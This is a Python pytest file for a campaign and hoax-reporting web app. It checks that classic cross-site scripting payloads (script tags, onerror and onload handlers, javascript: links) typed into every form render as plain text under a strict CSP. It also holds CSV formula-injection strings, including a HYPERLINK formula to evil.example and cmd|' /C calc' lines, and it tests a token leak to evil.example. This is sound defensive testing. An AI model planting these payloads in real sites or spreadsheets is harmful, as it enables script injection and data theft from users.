"""Hostile text: classic cross-site scripting payloads typed into every form a person can fill
come back as plain text, on every page, badge, feed and export that shows them; the CSP would
stop a script anyway; and a real browser opening those pages runs nothing.

Each payload goes through the forms a browser posts (signing, reporting, the campaign editor,
partners, the organisation's profile, invitations, the account, moderation, administration);
then every page that shows it is read with an HTML (or XML, or JSON) parser, which must find
no element or attribute that came from the payload, and the payload itself as visible text.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from bs4 import BeautifulSoup, Tag
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlmodel import Session, col, select

from pledge.accounts import service as accounts
from pledge.accounts.models import Organization, Role, User
from pledge.campaigns import service as campaigns
from pledge.campaigns.models import CampaignPartner, PartnerStatus
from pledge.hoaxes.models import HoaxReport
from pledge.mail import OutboxMessage
from pledge.supporters.service import first_name
from pledge.web import SESSION_COOKIE
from tests.support.appserver import LiveServer
from tests.support.forms import form_data
from tests.support.mailbox import text_of
from tests.support.pages import csrf_token, html
from tests.support.people import sign_in
from tests.support.signing import confirm_landing, sign_by_email

BASE = "http://testserver"
CSRF = "hostile-text-test-csrf-token-0123456789"
PASSWORD = "kata-sandi-yang-cukup-panjang"
SLUG = "kampanye-uji"

# What each payload would do if it ran: set this global (and open a dialog).
PWNED = "__pwned"

# Classic payloads, each at most 80 characters (the shortest field, a name, takes 80) and with
# single spaces (names and titles have their runs of spaces folded).
PAYLOADS: dict[str, str] = {
    # A script element, also after closing the <title> it may be written into.
    "script, </title> breakout": "</title><script>window.__pwned=1;alert(1)</script>",
    # Out of a double- or single-quoted attribute, into an event handler.
    "quote breakout, onerror": "\"'><img src=x onerror=window.__pwned=1> ' onfocus='window.__pwned=1",
    "svg onload, iframe": "<svg onload=window.__pwned=1><iframe src=javascript:alert(1)>",
    # Where a link is made from text: a URL field, or the story's Markdown.
    "javascript: URL, markdown link": "javascript:window.__pwned=1//[x](javascript:alert(1))",
    # The XSS locator, and template or format syntax that must not be evaluated.
    "XSS locator, template": "'';!--\"<XSS>=&{()} {{7*7}} ${7*7} {% print 7*7 %} %(title)s %s",
    # Right-to-left override, a zero-width space inside a tag name, full-width brackets.
    "unicode, RTL": "\u202e<scr\u200bipt>window.__pwned=1</script>\uff1cscript\uff1e \U0001f600",
}

# Always in the story, whatever the payload: Markdown that would make a script link or markup.
MARKDOWN = (
    "[x](javascript:window.__pwned=1) [y](JaVaScRiPt:alert(1)) ![z](javascript:alert(1)) "
    "<javascript:alert(1)> [w](data:text/html,<script>alert(1)</script>)\n\n"
    "<script>window.__pwned=1</script> <img src=x onerror=alert(1)>"
)

URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster")
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


# --- reading pages -----------------------------------------------------------------------


def squeezed(value: str) -> str:
    """A URL as a browser reads its scheme: without spaces and control characters."""
    return re.sub(r"[\x00-\x20\x7f]+", "", value).lower()


def injected(soup: BeautifulSoup, where: str) -> list[str]:
    """Everything on a page that could run a script or was made from a payload's markup."""
    found = []
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on"):
                found.append(f"{where}: <{tag.name} {name}=...>")
            if name.lower() in URL_ATTRIBUTES and squeezed(text).startswith(DANGEROUS_SCHEMES):
                found.append(f"{where}: <{tag.name} {name}={text!r}>")
        if tag.name in ("xss", "base", "object", "embed", "applet"):
            found.append(f"{where}: <{tag.name}>")
        if tag.name == "img" and tag.get("src") == "x":
            found.append(f"{where}: <img src=x>")
        if tag.name == "meta" and str(tag.get("http-equiv", "")).lower() == "refresh":
            found.append(f"{where}: <meta http-equiv=refresh>")
        if tag.name == "iframe" and not urlsplit(str(tag.get("src", ""))).path.startswith(
            "/embed/"
        ):
            found.append(f"{where}: <iframe src={tag.get('src')!r}>")
        if tag.name == "script":
            if tag.get("type") == "application/ld+json":
                json.loads(tag.string or "")  # data only: it must stay one JSON value
            elif not str(tag.get("src", "")).startswith("/static/") or tag.string:
                found.append(f"{where}: <script {tag.attrs}>{tag.string or ''}")
    return found


def shown(soup: BeautifulSoup, text: str) -> bool:
    """The text as a person reads it: in the page's text or in a form field's value."""
    if text in soup.get_text():
        return True
    return any(
        text in str(tag.get(attribute, ""))
        for tag in soup.find_all(True)
        for attribute in ("value", "content", "title", "alt", "aria-label")
    )


def one(soup: BeautifulSoup | Tag, selector: str) -> Tag:
    found = soup.select_one(selector)
    assert found is not None, f"nothing matches {selector!r}"
    return found


# --- people, and a browser for each ----------------------------------------------------


@dataclass
class Hostile:
    """A campaign, a hoax case and the people around them, every text written by the forms
    with the payload; and the paths of every page that shows any of it."""

    payload: str
    admin: TestClient  # site admin, admin of the lead organisation (so a moderator too)
    checker: TestClient  # a second moderator of the lead organisation
    public: TestClient  # a visitor: a supporter, a reporter
    lead: str = ""
    thanks: str = ""
    confirm_link: str = ""
    status: str = ""
    case_id: int = 0
    rejected_case_id: int = 0
    hoax_id: int = 0
    checker_id: int = 0
    refused: dict[str, Any] = field(default_factory=dict)  # forms that said no: their pages


def browser_for(app: FastAPI, user: User | None = None) -> TestClient:
    client = TestClient(app, base_url=BASE, follow_redirects=False)
    client.__enter__()
    client.cookies.set("lang", "en")
    if user is not None:
        sign_in(client, user, csrf=CSRF)
    return client


def post(client: TestClient, path: str, **fields: Any) -> Any:
    return client.post(path, data={"csrf_token": CSRF, **fields})


def done(response: Any, what: str) -> str:
    assert response.status_code == 303, f"{what}: {response.status_code} {response.text[:600]}"
    return str(response.headers["location"])


def outbox_link(session: Session, to: str, path: str) -> str:
    session.commit()
    message = session.exec(
        select(OutboxMessage).where(OutboxMessage.to == to).order_by(col(OutboxMessage.id).desc())
    ).first()
    assert message is not None
    body = text_of(message.id, message.body)
    found = re.search(re.escape(path) + r"[A-Za-z0-9_\-]+", body)
    assert found is not None, body
    return found[0]


@pytest.fixture
def clients(app: FastAPI) -> Iterator[list[TestClient]]:
    opened: list[TestClient] = []
    yield opened
    for client in opened:
        client.__exit__(None, None, None)


def write_everywhere(
    app: FastAPI,
    session: Session,
    make_org: Callable[..., Organization],
    clients: list[TestClient],
    payload: str,
) -> Hostile:
    """Type the payload into every text field of every form, as the people who may."""
    lead = make_org(slug="lembaga-utama", name="Lembaga Utama")
    root = accounts.create(
        session, email="root@contoh.id", password=PASSWORD, display_name="Root", is_site_admin=True
    )
    accounts.add_member(session, user=root, org=lead, role=Role.ADMIN)
    session.commit()
    admin, public = browser_for(app, root), browser_for(app)
    clients += [admin, public]
    dash = f"/dashboard/{lead.slug}"
    campaign = f"{dash}/campaigns/{SLUG}"

    # The partner admin: the account's name, the organisation's profile, a campaign with its
    # story in Markdown, a pledge, a new co-partner organisation invited by name.
    done(post(admin, "/account/name", display_name=payload), "account name")
    done(post(admin, f"{dash}/profile", name=payload, website="https://lembaga.example"), "profile")
    # An approved organisation's new name waits for a site admin, who is also this admin (the
    # admin's page lists it waiting); once approved every page shows it.
    if html(admin.get("/admin/orgs?status=all")).select_one(".pending-change dd") is not None:
        done(post(admin, f"/admin/orgs/{lead.slug}/change/approve", status="all"), "approved")
    story = f"{payload}\n\n{MARKDOWN}"
    created = post(
        admin,
        f"{dash}/campaigns",
        title=payload,
        slug=SLUG,
        summary=payload,
        body=story,
        goal="100",
        locale="id",
    )
    done(created, "campaign")
    done(post(admin, f"{campaign}/pledges", text=payload, slug="janji-uji"), "pledge")
    done(
        post(
            admin,
            f"{campaign}/partners",
            kind="invite",
            name=f"{payload} 2",
            email="mitra@contoh.id",
        ),
        "co-partner",
    )
    # Its first admin accepts the partnership on its dashboard, as a browser would.
    session.expire_all()
    invited = session.exec(
        select(CampaignPartner).where(CampaignPartner.status == PartnerStatus.INVITED)
    ).one()
    ally = session.get(Organization, invited.org_id)
    assert ally is not None
    ketua = accounts.create(session, email="ketua-mitra@contoh.id", password=PASSWORD)
    accounts.add_member(session, user=ketua, org=ally, role=Role.ADMIN)
    session.commit()  # no read snapshot kept: the app writes on
    session.expire_all()  # nor the campaign as it was then (a draft)
    partner_admin = browser_for(app, ketua)
    clients.append(partner_admin)
    accepted = post(partner_admin, f"/dashboard/{ally.slug}/partnerships/{invited.id}/accept")
    done(accepted, "partnership accepted")
    live = done(post(admin, f"{campaign}/status", status="live"), "going live")
    assert "done=status-live" in live, live

    # A second moderator, invited by email, names themself with the payload on accepting.
    done(
        post(admin, f"{dash}/members/invite", email="pemeriksa@contoh.id", role="moderator"),
        "invite",
    )
    invite = outbox_link(session, "pemeriksa@contoh.id", "/invite/")
    newcomer = browser_for(app)
    clients.append(newcomer)
    accepted = newcomer.post(
        invite,
        data={
            "csrf_token": csrf_token(newcomer, invite),
            "display_name": payload,
            "password": PASSWORD,
            "password_confirm": PASSWORD,
        },
    )
    done(accepted, "accepting the invitation")
    session.commit()
    joined = accounts.get_by_email(session, "pemeriksa@contoh.id")
    assert joined is not None
    checker = browser_for(app, joined)
    clients.append(checker)

    world = Hostile(payload=payload, admin=admin, checker=checker, public=public, lead=lead.slug)

    # A supporter signs with the payload as a name, and asks for news.
    token = csrf_token(public, f"/c/{SLUG}")
    signed = public.post(
        f"/c/{SLUG}/sign",
        data={
            **form_data(name=payload, contact="penyusup@contoh.id", pledges=["janji-uji"]),
            "show_name": "on",
            "updates_org": lead.slug,
            "csrf_token": token,
        },
    )
    assert done(signed, "signing") == f"/c/{SLUG}/confirm"
    # The supporter's own page once they confirm with the code; and the emailed link's page of
    # someone who has not confirmed yet, which names the campaign beside its button.
    view = campaigns.get_view(session, slug=SLUG)
    world.thanks = confirm_landing(public, view, "penyusup@contoh.id", session)
    world.confirm_link = sign_by_email(
        session, view, "menunggu@contoh.id", pledges=("janji-uji",)
    ).confirm_path

    # A hoax report with the payload as its description, and one with it in the link.
    token = csrf_token(public, f"/c/{SLUG}/report")
    report = {
        "url": "https://www.facebook.com/hoaks/posts/1",
        "platform": "facebook",
        "category": "false_claim",
        "description": payload,
        "province": "ID-JK",
        "contact": "pelapor@contoh.id",
        "consent": "on",
        "website": "",
        "csrf_token": token,
    }
    empty_file = {"screenshot": ("", b"", "application/octet-stream")}
    world.status = done(public.post(f"/c/{SLUG}/report", data=report, files=empty_file), "report")
    second = {**report, "url": f"https://hoaks.example/{payload}", "description": "Kedua"}
    linked = public.post(f"/c/{SLUG}/report", data=second, files=empty_file)
    if linked.status_code != 303:
        world.refused["report link"] = linked
    session.commit()
    reports = session.exec(select(HoaxReport).order_by(col(HoaxReport.id))).all()
    world.case_id = reports[0].case_id

    # Moderation: claim, propose a hoax verdict, a second moderator approves; the other case
    # is rejected in bulk. Every reason and public text is the payload.
    case = f"/mod/cases/{world.case_id}"
    done(post(admin, f"{case}/claim"), "claim")
    decided = post(
        admin,
        f"{case}/decide",
        decision="hoax",
        label="SALAH",
        public_title=payload,
        correction=payload,
        claim_author=payload,
        public_explanation=f"{payload}\n\n{payload}",
        fact_check_url="https://cekfakta.example/" + payload,
        reason=payload,
    )
    if decided.status_code != 303:
        # The fact-check link may be refused; the verdict is then given without it.
        world.refused["fact-check link"] = decided
        decided = post(
            admin,
            f"{case}/decide",
            decision="hoax",
            label="SALAH",
            public_title=payload,
            correction=payload,
            claim_author=payload,
            public_explanation=f"{payload}\n\n{payload}",
            fact_check_url="https://cekfakta.example/tps",
            reason=payload,
        )
    done(decided, "verdict")
    done(post(checker, f"{case}/claim"), "second claim")
    done(post(checker, f"{case}/approve", reason=payload), "approval")
    world.hoax_id = world.case_id
    if len(reports) > 1 and reports[1].case_id != world.case_id:
        world.rejected_case_id = reports[1].case_id
        done(
            post(admin, "/mod/bulk-reject", case_ids=str(world.rejected_case_id), reason=payload),
            "bulk rejection",
        )

    # The site admin: a new organisation, a deactivation reason on the checker's account.
    done(
        post(
            admin,
            "/admin/orgs",
            slug="lembaga-baru",
            name=f"{payload} 3",
            website="https://baru.example",
        ),
        "new organisation",
    )
    done(post(admin, f"/admin/users/{joined.id}/deactivate", reason=payload), "deactivation")
    world.checker_id = joined.id or 0

    # Forms that refuse the payload show it back in their fields.
    world.refused["sign contact"] = public.post(
        f"/c/{SLUG}/sign",
        data={**form_data(contact=payload), "csrf_token": csrf_token(public, f"/c/{SLUG}")},
    )
    world.refused["login"] = public.post(
        "/login",
        data={"email": payload, "password": "x", "csrf_token": csrf_token(public, "/login")},
    )
    world.refused["forgot"] = public.post(
        "/password/forgot",
        data={"email": payload, "csrf_token": csrf_token(public, "/password/forgot")},
    )
    world.refused["personal data search"] = post(admin, "/admin/contacts", contact=payload)
    world.refused["member invite"] = post(
        admin, f"{dash}/members/invite", email=payload, role="moderator"
    )
    world.refused["preview"] = post(
        admin,
        f"{dash}/campaigns",
        action="preview",
        title=payload,
        slug="pratinjau",
        summary=payload,
        body=story,
        goal="100",
        locale="id",
    )
    return world


def page_paths(world: Hostile) -> dict[str, tuple[TestClient, str]]:
    case = f"/mod/cases/{world.case_id}"
    dash = f"/dashboard/{world.lead}"
    paths = {
        "index": (world.public, "/"),
        "campaign": (world.public, f"/c/{SLUG}"),
        "waiting for the confirmation": (world.public, f"/c/{SLUG}/confirm"),
        "emailed confirmation link": (world.public, world.confirm_link),
        "thank-you": (world.public, world.thanks),
        "report form": (world.public, f"/c/{SLUG}/report"),
        "report status": (world.public, world.status),
        "gallery": (world.public, "/hoaxes"),
        "verdict": (world.public, f"/hoaxes/{world.hoax_id}"),
        "widget": (world.public, f"/embed/{SLUG}"),
        "dashboard org": (world.admin, dash),
        "editor": (world.admin, f"{dash}/campaigns/{SLUG}/edit"),
        "statistics": (world.admin, f"{dash}/campaigns/{SLUG}/statistics"),
        "embed snippets": (world.admin, f"{dash}/campaigns/{SLUG}/embed"),
        "members": (world.admin, f"{dash}/members"),
        "profile": (world.admin, f"{dash}/profile"),
        "account": (world.admin, "/account"),
        "queue": (world.admin, "/mod?status=all"),
        "case": (world.admin, case),
        "admin orgs": (world.admin, "/admin/orgs"),
        "admin user": (world.admin, f"/admin/users/{world.checker_id}"),
    }
    if world.rejected_case_id:
        paths["rejected case"] = (world.admin, f"/mod/cases/{world.rejected_case_id}")
    return paths


def csp_problems(response: Any) -> list[str]:
    """What in the page's Content-Security-Policy would let an injected script run."""
    directives: dict[str, list[str]] = {}
    for part in response.headers.get("content-security-policy", "").split(";"):
        words = part.split()
        if words:
            directives[words[0].lower()] = words[1:]
    problems = []
    if directives.get("script-src", directives.get("default-src")) != ["'self'"]:
        problems.append(f"script-src is {directives.get('script-src')}")
    for name, values in directives.items():
        for weak in ("'unsafe-inline'", "'unsafe-eval'", "data:", "*"):
            if weak in values and name in ("script-src", "default-src", "object-src"):
                problems.append(f"{name} allows {weak}")
    if directives.get("base-uri") != ["'none'"]:
        problems.append("base-uri is not 'none'")
    return problems


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_a_payload_typed_into_every_form_is_shown_as_text_everywhere(
    app: FastAPI,
    session: Session,
    make_org: Callable[..., Organization],
    clients: list[TestClient],
    name: str,
) -> None:
    payload = PAYLOADS[name]
    world = write_everywhere(app, session, make_org, clients, payload)
    problems: list[str] = []

    pages = {where: client.get(path) for where, (client, path) in page_paths(world).items()}
    pages |= {f"refused {where}": response for where, response in world.refused.items()}
    soups: dict[str, BeautifulSoup] = {}
    for where, response in pages.items():
        assert response.status_code in (200, 422), f"{where}: {response.status_code}"
        assert response.headers["content-type"].startswith("text/html"), where
        soup = soups[where] = html(response)
        problems += injected(soup, where)
        problems += [f"{where}: {problem}" for problem in csp_problems(response)]
        if not shown(soup, payload):
            problems.append(f"{where}: the payload is not shown as typed")
    assert problems == []

    # Where each text is shown, exactly as typed.
    campaign = soups["campaign"]
    assert one(campaign, "h1").get_text() == payload
    assert one(campaign, "title").get_text().startswith(payload)
    assert one(campaign, "p.lead").get_text() == payload
    for meta in ("og:title", "og:description", "og:image:alt"):
        assert one(campaign, f"meta[property='{meta}']")["content"] == payload
    assert [s.get_text() for s in campaign.select(".pledge-text")] == [payload]
    assert first_name(payload) in one(campaign, "section.recent").get_text()
    story = one(campaign, "section.story")
    # The Markdown made paragraphs and emphasis only: no link, picture or other markup.
    assert {tag.name for tag in story.find_all(True)} <= {"p", "em", "strong", "code"}
    assert "[x](javascript:window.__pwned=1)" in story.get_text()
    assert "<script>window.__pwned=1</script>" in story.get_text()
    case = soups["case"]
    assert one(case, "p.description").get_text() == payload
    reasons = [cell.get_text() for cell in case.select("td.reason")]
    assert reasons.count(payload) >= 2  # the verdict's reason and the approval's
    if world.rejected_case_id:
        assert payload in [c.get_text() for c in soups["rejected case"].select("td.reason")]
    assert payload in [q.get_text() for q in soups["admin user"].select("li[data-action] q")]
    assert f"{payload} 3" in soups["admin orgs"].get_text()  # the organisation a site admin added
    assert f"{payload} 2" in soups["editor"].get_text()  # the co-partner invited by name
    assert one(soups["editor"], "input#title")["value"] == payload
    assert one(soups["editor"], "textarea#summary").get_text() == payload
    review = json.loads(one(soups["verdict"], "script[type='application/ld+json']").string or "")
    assert review["claimReviewed"] == payload
    assert one(soups["widget"], "title").get_text().startswith(payload)

    # The badge is an SVG document: the title is text in it, not markup.
    badge = world.public.get(f"/embed/{SLUG}.svg")
    assert badge.headers["content-type"].startswith("image/svg+xml")
    tree = ElementTree.fromstring(badge.content)  # noqa: S314 - our own server's answer
    assert [
        e.tag for e in tree.iter() if e.tag.rsplit("}", 1)[-1] in ("script", "foreignObject")
    ] == []
    assert [a for e in tree.iter() for a in e.attrib if a.lower().startswith("on")] == []
    assert tree.attrib["aria-label"].startswith(payload)
    assert "".join(tree.itertext()).startswith(payload)

    # The share card is a picture: whatever the title, it is drawn, never served as markup.
    card = world.public.get(f"/c/{SLUG}/share.png")
    assert card.headers["content-type"] == "image/png"
    assert card.content.startswith(b"\x89PNG")

    # The JSON API gives the text as data, in a type no browser renders as a page.
    api = world.public.get(f"/api/v1/campaigns/{SLUG}")
    assert api.headers["content-type"].startswith("application/json")
    assert api.headers["x-content-type-options"] == "nosniff"
    data = api.json()
    assert data["title"] == payload
    assert [p["text"] for p in data["pledges"]] == [payload]
    assert {payload, f"{payload} 2"} <= {p["name"] for p in data["partners"]}
    hoaxes = world.public.get("/api/v1/hoaxes")
    assert hoaxes.headers["content-type"].startswith("application/json")
    item = hoaxes.json()["items"][0]
    assert item["title"] == payload
    assert item["explanation"] == f"{payload}\n\n{payload}"


# --- the supporters' export --------------------------------------------------------------

# What a spreadsheet would run: each written as a supporter or a partner admin could.
FORMULAS = {
    "name": [
        '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",  # a tab first: folded away with the name's other spaces, "=" is then first
        "\r=1+1",
    ],
    "contact": ['=1+1"@contoh.id', "+6281234567890", "-x@contoh.id", "@x@contoh.id"],
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_formulas_typed_into_the_forms_are_plain_text_in_the_export(
    app: FastAPI,
    session: Session,
    make_org: Callable[..., Organization],
    clients: list[TestClient],
) -> None:
    """Through the forms, as typed: names and contacts of supporters, and a pledge written
    by a partner admin, come out of the CSV with a leading quote where a spreadsheet would
    see a formula; nothing else is changed."""
    lead = make_org(slug="lembaga-utama")
    root = accounts.create(session, email="root@contoh.id", password=PASSWORD)
    accounts.add_member(session, user=root, org=lead, role=Role.ADMIN)
    session.commit()
    admin, public = browser_for(app, root), browser_for(app)
    clients += [admin, public]
    campaign = f"/dashboard/{lead.slug}/campaigns/{SLUG}"
    done(
        post(
            admin,
            f"/dashboard/{lead.slug}/campaigns",
            title="Kampanye",
            slug=SLUG,
            summary="Ringkasan",
            body="Cerita",
            goal="100",
            locale="id",
        ),
        "campaign",
    )
    done(post(admin, f"{campaign}/pledges", text="=1+1 janji", slug="janji-rumus"), "pledge")
    done(post(admin, f"{campaign}/status", status="live"), "going live")
    people = [(name, f"orang{n}@contoh.id") for n, name in enumerate(FORMULAS["name"])]
    people += [("Rina", contact) for contact in FORMULAS["contact"]]
    accepted = []
    view = campaigns.get_view(session, slug=SLUG)
    for name, contact in people:
        token = csrf_token(public, f"/c/{SLUG}")
        signed = public.post(
            f"/c/{SLUG}/sign",
            data={
                **form_data(name=name, contact=contact, pledges=["janji-rumus"]),
                "updates_org": lead.slug,
                "csrf_token": token,
            },
        )
        assert signed.status_code in (303, 422), signed.text[:300]
        if signed.status_code == 303:
            # Only a confirmed supporter is exported: each confirms, as they would.
            confirm_landing(public, view, contact, session)
            accepted.append((" ".join(name.split()), contact))
    assert len(accepted) >= len(FORMULAS["name"]) + 1  # the formulas were stored, not refused

    export = admin.get(f"{campaign}/export.csv")

    assert export.status_code == 200
    assert export.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    body = rows[1:]
    assert len(body) == len(accepted)
    formulas = [f"row {n}: {cell!r}" for n, row in enumerate(body) for cell in row]
    assert [cell for cell in formulas if cell.split(": ", 1)[1][1:].startswith(FORMULA_START)] == []
    for row, (name, _contact) in zip(body, accepted, strict=True):
        assert row[0] == ("'" + name if name.startswith(FORMULA_START) else name)
        assert row[5] == "'=1+1 janji"
    shown_contacts = {row[1].removeprefix("'") for row in body}
    assert {"+6281234567890"} <= shown_contacts
    assert all(row[1] == "'" + row[1][1:] for row in body if row[1][1:].startswith(FORMULA_START))


# --- the stored campaign page ------------------------------------------------------------


def test_text_like_the_page_cache_placeholder_is_shown_as_typed(
    app: FastAPI,
    session: Session,
    make_org: Callable[..., Organization],
    clients: list[TestClient],
) -> None:
    """The campaign page is stored once with a placeholder where each visitor's CSRF token
    goes. A partner's text that spells the placeholder must stay as typed, and never carry
    the visitor's token (here, in a link to another site)."""
    lead = make_org(slug="lembaga-utama")
    root = accounts.create(session, email="root@contoh.id", password=PASSWORD)
    accounts.add_member(session, user=root, org=lead, role=Role.ADMIN)
    session.commit()
    admin, visitor = browser_for(app, root), browser_for(app)
    clients += [admin, visitor]
    from pledge.supporters.routes import CSRF_HOLE

    spelled = CSRF_HOLE.strip("<>")
    link = f"https://evil.example/?t={spelled}"
    done(
        post(
            admin,
            f"/dashboard/{lead.slug}/campaigns",
            title=spelled,
            slug=SLUG,
            summary=spelled,
            body=f"[Hadiah]({link})",
            goal="100",
            locale="id",
        ),
        "campaign",
    )
    campaign = f"/dashboard/{lead.slug}/campaigns/{SLUG}"
    done(post(admin, f"{campaign}/pledges", text="Janji", slug="janji"), "pledge")
    done(post(admin, f"{campaign}/status", status="live"), "going live")

    first = visitor.get(f"/c/{SLUG}")  # drawn and stored
    again = visitor.get(f"/c/{SLUG}")  # from the store

    for response in (first, again):
        soup = html(response)
        token = str(one(soup, "input[name=csrf_token]")["value"])
        assert one(soup, "h1").get_text() == spelled
        assert one(soup, "section.story a")["href"] == link
        assert token not in response.text.replace(f'value="{token}"', "")


# --- a real browser ------------------------------------------------------------------------


@pytest.mark.browser
def test_a_browser_opening_every_page_with_stored_payloads_runs_none(
    app: FastAPI,
    session: Session,
    make_org: Callable[..., Organization],
    clients: list[TestClient],
    browser: Any,
    live_server: LiveServer,
) -> None:
    """Chromium, with the site's real headers: no dialog opens, no payload's global is set,
    and the CSP never had to refuse anything (so no payload even became markup)."""
    payload = '</title><script>window.__pwned=1</script>"><img src=x onerror=alert(1)>'
    world = write_everywhere(app, session, make_org, clients, payload)
    context = browser.new_context()
    cookie = world.admin.cookies.get(SESSION_COOKIE)
    context.add_cookies([{"name": SESSION_COOKIE, "value": cookie, "url": live_server.url}])
    page = context.new_page()
    dialogs: list[str] = []
    refused: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on(
        "console",
        lambda message: (
            refused.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    try:
        seen, shown_in, titled = {}, {}, {}
        for where, (_client, path) in page_paths(world).items():
            page.goto(live_server.url + path, wait_until="load")
            seen[where] = page.evaluate(f"typeof window.{PWNED}")
            shown_in[where] = payload in page.locator("html").inner_text()
            titled[where] = payload in page.title()
    finally:
        context.close()

    assert dialogs == []
    assert refused == []
    assert set(seen.values()) == {"undefined"}
    # The page that waits for a confirmation names the campaign in its title only, to a
    # browser that signed nothing (as this one).
    assert [where for where, found in shown_in.items() if not found] == [
        "waiting for the confirmation"
    ]
    assert titled["waiting for the confirmation"]


# --- characters nobody types -----------------------------------------------------------------


def test_control_characters_in_every_form_never_break_a_page(
    app: FastAPI,
    session: Session,
    make_org: Callable[..., Organization],
    clients: list[TestClient],
) -> None:
    """A NUL (which PostgreSQL refuses in any text), a control character and an escape, in
    every field: each form answers as for any text (never a 500), and every page, the badge
    and the API still read as valid documents without them."""
    world = write_everywhere(app, session, make_org, clients, "Nul\x00<b>x</b>\x01\x1b")

    assert {
        where: r.status_code for where, r in world.refused.items() if r.status_code >= 500
    } == {}
    for where, (client, path) in page_paths(world).items():
        response = client.get(path)
        assert response.status_code == 200, where
        assert "\x00" not in response.text, where
        assert injected(html(response), where) == []
    badge = world.public.get(f"/embed/{SLUG}.svg")
    ElementTree.fromstring(badge.content)  # noqa: S314 - our own server's answer
    title = world.public.get(f"/api/v1/campaigns/{SLUG}").json()["title"]
    assert title.startswith("Nul") and "<b>x</b>" in title and "\x00" not in title
